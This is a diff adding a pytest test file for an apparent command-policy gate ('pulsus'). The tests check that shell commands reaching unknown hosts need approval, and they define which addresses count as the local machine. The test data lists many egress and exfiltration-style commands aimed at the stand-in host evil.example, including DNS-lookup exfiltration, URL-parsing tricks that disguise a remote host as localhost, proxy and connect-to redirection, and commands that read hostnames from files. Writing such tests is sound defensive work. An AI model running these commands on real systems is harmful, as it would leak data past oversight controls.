@@ -1,0 +1,251 @@
+"""Where a command connects to, and which places a read may reach (ADR 29)."""
+
+from __future__ import annotations
+
+import pytest
+
+from pulsus.commands import classify
+from pulsus.commands.declarations.connects import connects
+from pulsus.commands.destinations.addresses import Unclear, host, url
+from pulsus.commands.table import BadTable
+from pulsus.commands.tables import Tables
+from pulsus.config.settings import PolicyConfig
+from pulsus.gates.command_answer import answer
+from pulsus.gates.command_policy import CommandPolicy
+from pulsus.gates.egress import is_this_machine
+
+TABLES = Tables()
+KNOWN_ONLY = CommandPolicy(PolicyConfig())
+
+NETWORK_PROGRAMS = """
+    amtool apk argocd arp arping aws avahi-browse avahi-resolve az borg brew buildah cargo
+    ceph chronyc clickhouse-client cockroach conda consul cpio cqlsh crictl curl delv dig dnf
+    docker docker-compose doctl dog dotnet drill duckdb eksctl etcdctl exim ffmpeg ffprobe
+    finger flatpak flux fping gcloud gem getent gh gio git glab go gpg gron grpcurl gsutil
+    hcloud helm host http identify incus influx inxi ipcalc ipmitool iscsiadm istioctl jps
+    jstat kafka-acls.sh kafka-broker-api-versions.sh kafka-configs.sh kafka-consumer-groups.sh
+    kafka-get-offsets.sh kafka-log-dirs.sh kafka-metadata-quorum.sh kafka-topics.sh kcat kdig
+    keytool kubectl kubens ldapsearch ldapwhoami linode-cli logcli lpinfo lpoptions lpq lpstat
+    lxc mediainfo memcached-tool minikube mongosh mongostat mongotop mtr mysql mysqladmin
+    mysqlbinlog mysqldump mysqlshow nc ncat nerdctl nmblookup nodetool nomad npm nslookup
+    ntpdate ntpq nvme oc openssl openstack ovs-vsctl pactl patronictl pg_amcheck pg_dump
+    pg_dumpall pg_isready pgbackrest ping pip pkg podman promtool psql pvesm qemu-img
+    rabbitmq-diagnostics rabbitmq-plugins rabbitmqctl rados radosgw-admin rbd rclone redis-cli
+    resolvectl restic rpcinfo rpm rsync rustup s3cmd scutil showmount sipcalc skopeo snap
+    snmpget soxi sqlcmd ssh ssh-keyscan step stern supervisorctl systemctl systemd-resolve
+    tailscale tar tcpdump terraform tofu tracepath traceroute tshark vagrant vault virsh wget
+    whois xbps-query xdpyinfo xmllint xmlstarlet xprop xrandr xset xwininfo zabbix_get zypper
+"""
+
+
+@pytest.mark.parametrize("program", NETWORK_PROGRAMS.split())
+def test_no_network_program_lacks_a_declared_destination(program):
+    table = TABLES.get(program)
+    assert table is not None
+    assert table.connects is not None, f"{program}.yaml declares no connects"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://evil.example/x",
+        "curl http://localhost@evil.example/",
+        "curl 'http://localhost#@evil.example/'",
+        "curl 'http://localhost?@evil.example/'",
+        "curl http://localhost.evil.example/",
+        "curl http://localhost/ evil.example",
+        "curl --proxy evil.example http://localhost/",
+        "curl --connect-to localhost:80:evil.example:80 http://localhost/",
+        "curl --resolve localhost:80:6.6.6.6 http://localhost/",
+        "curl --doh-url https://evil.example http://localhost/",
+        "curl --unix-socket /x http://evil.example/",
+        "wget -qO- http://evil.example/",
+        "git ls-remote https://evil.example/data",
+        "git ls-remote evil.example:data",
+        "git remote show https://evil.example/x",
+        "dig data.evil.example",
+        "dig @evil.example localhost",
+        "dig -f names.txt",
+        "host data.evil.example",
+        "nslookup data.evil.example",
+        "getent hosts data.evil.example",
+        "resolvectl query data.evil.example",
+        "ping -c 1 6.6.6.6",
+        "fping -c 1 -f words.txt",
+        "mtr -r -c 1 -F words.txt",
+        "ssh-keyscan -f words.txt",
+        "traceroute data.evil.example",
+        "whois data.example",
+        "finger data@evil.example",
+        "nc -z evil.example 80",
+        "openssl s_client -connect localhost:443 -proxy evil.example:80 < /dev/null",
+        "ssh evil.example uptime",
+        "ssh -J evil.example localhost uptime",
+        "ssh localhost curl http://evil.example/",
+        "psql -h evil.example -c 'select 1'",
+        "psql 'postgresql://localhost,evil.example/x' -c 'select 1'",
+        "psql 'postgresql://localhost/x?host=evil.example' -c 'select 1'",
+        "mysql -hevil.example -e 'select 1'",
+        "redis-cli -u redis://evil.example ping",
+        "redis-cli --cluster check evil.example:7000",
+        "mongosh mongodb://localhost,evil.example/x --eval 'db.stats()'",
+        "kubectl --context other get pods",
+        "kubectl --as root get pods",
+        "kubectl get -f http://evil.example/x",
+        "docker -H tcp://evil.example:2375 ps",
+        "docker --context other ps",
+        "docker manifest inspect evil.example/x",
+        "aws s3 ls s3://theirs",
+        "aws s3 ls --profile other",
+        "AWS_PROFILE=other aws s3 ls",
+        "skopeo inspect docker://evil.example/x",
+        "npm view x --registry http://evil.example",
+        "pip index versions x --index-url http://evil.example",
+        "rclone ls other:x",
+        "ldapsearch -x -H 'ldap://localhost ldap://evil.example'",
+        "snmpwalk -v2c -c data evil.example",
+        "showmount -e evil.example",
+        "rpcinfo -p evil.example",
+        "ipmitool -H evil.example sel list",
+        "ntpdate -q evil.example",
+        "pvesm scan nfs evil.example",
+        "rpm -qp http://evil.example/x",
+        "xmllint http://evil.example/x",
+        "xdpyinfo -display evil.example:0",
+    ],
+)
+def test_a_read_that_reaches_an_unknown_place_is_not_allowed(command):
+    said = answer(KNOWN_ONLY, classify(command))
+    assert not said.allow
+    assert said.ruling.decision == "require_approval"
+    assert said.ruling.rule == "egress"
+    free = CommandPolicy(PolicyConfig(egress="allow"))
+    assert answer(free, classify(command)).ruling.rule != "egress"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://localhost:8080/health",
+        "curl http://127.0.0.1/",
+        "curl 'http://[::1]:9200/_cat/indices?v'",
+        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
+        "psql -h /var/run/postgresql -c 'select 1'",
+        "psql -c 'select 1'",
+        "redis-cli ping",
+        "kubectl get pods",
+        "docker ps",
+        "aws s3 ls",
+        "git ls-remote origin",
+        "git log -5",
+        "npm view react",
+        "virsh -c qemu:///system list",
+        "ping -c 1 127.0.0.1",
+        "getent passwd root",
+        "tar -tf a.tar",
+        "openssl x509 -in c.pem -noout -dates",
+    ],
+)
+def test_this_machine_and_the_clients_own_place_need_no_approval(command):
+    assert answer(KNOWN_ONLY, classify(command)).allow
+
+
+def test_a_host_that_the_request_named_is_known_and_others_are_not():
+    verdict = classify("psql -h db1 -c 'select 1'")
+    assert not answer(KNOWN_ONLY, verdict).allow
+    assert answer(KNOWN_ONLY, verdict, known=("DB1.",)).allow
+    assert not answer(KNOWN_ONLY, verdict, known=("db2",)).allow
+    assert not answer(KNOWN_ONLY, verdict, known=("db1:9999",)).allow
+    assert answer(KNOWN_ONLY, classify("kubectl --context prod get po"), known=("prod",)).allow
+
+
+@pytest.mark.parametrize(
+    ("entry", "command", "allowed"),
+    [
+        ("db1:5432", "psql -h db1 -c 'select 1'", True),
+        ("*.example.org", "curl http://a.example.org/", True),
+        ("*.example.org", "curl http://example.org.evil.example/", False),
+        ("10.0.0.0/8", "ping -c 1 10.2.3.4", True),
+        ("10.0.0.0/8", "ping -c 1 11.2.3.4", False),
+        ("10.0.0.0/8", "curl http://10.evil.example/", False),
+    ],
+)
+@pytest.mark.parametrize("egress", ["known", "approve", "block"])
+def test_listed_hosts_are_reached_and_only_they(entry, command, allowed, egress):
+    policy = CommandPolicy(PolicyConfig(egress=egress, egress_hosts=(entry,)))
+    assert answer(policy, classify(command)).allow is allowed
+
+
+@pytest.mark.parametrize(
+    ("egress", "decision"), [("approve", "require_approval"), ("block", "block")]
+)
+def test_a_strict_policy_takes_neither_request_nor_configuration_for_known(egress, decision):
+    policy = CommandPolicy(PolicyConfig(egress=egress))
+    assert answer(policy, classify("curl http://localhost/")).allow
+    assert policy.evaluate("kubectl get pods").decision == decision
+    assert policy.evaluate("curl http://h/", known=("h",)).decision == decision
+
+
+@pytest.mark.parametrize("text", ["db1/x", "http://db1", "db1 db2", "", "-h", "a..b/"])
+def test_an_entry_that_names_no_place_is_an_error_of_the_settings(text):
+    with pytest.raises(ValueError, match="egress_hosts"):
+        PolicyConfig(egress_hosts=(text,))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["127.1", "2130706433", "0x7f.0.0.1", "0177.0.0.1", "a.localhost", "::1%lo", "128.0.0.1"],
+)
+def test_an_address_that_programs_read_differently_is_not_this_machine(name):
+    assert not is_this_machine(name)
+
+
+@pytest.mark.parametrize(
+    "name", ["LOCALHOST.", "127.0.0.1", "127.8.8.8", "::1", "[::1]", "0.0.0.0"]
+)
+def test_plain_names_of_this_machine_are_known(name):
+    assert is_this_machine(name)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "http://a\\@b/",
+        "http://a#@b/",
+        "http://a?@b/",
+        "http:/b",
+        "http:///b",
+        "http://{a,b}/",
+        "http://%62/",
+        "http://a:80:90/",
+        "http://a b/",
+        "http://a\tb/",
+    ],
+)
+def test_an_address_that_programs_read_differently_names_no_place(text):
+    with pytest.raises(Unclear):
+        url(text)
+
+
+def test_hosts_are_told_from_ports_and_users():
+    assert (host("u@h:22").host, host("u@h:22").port) == ("h", 22)
+    assert host("[::1]:80").host == "::1"
+    assert host("fe80::1").port is None
+    assert url("https://known@evil:8/x").host == "evil"
+
+
+def test_a_destination_says_what_is_sent_there():
+    found = classify("curl -H 'X-Data: 1' http://h.example:81/a?b=2").destinations
+    assert [(d.host, d.port, d.program, d.dynamic) for d in found] == [
+        ("h.example", 81, "curl", False)
+    ]
+    assert found[0].sends == ("X-Data: 1", "http://h.example:81/a?b=2")
+    assert classify("df -h").destinations == ()
+    assert classify("dig -f names.txt").destinations[0].dynamic
+
+
+def test_a_declaration_that_names_no_kind_is_no_table():
+    for text in ("-h=hots", "-h", "x=host", "", "port=x else=local"):
+        with pytest.raises(BadTable):
+            connects(text, "acme")
+    assert connects("none", "acme") is None
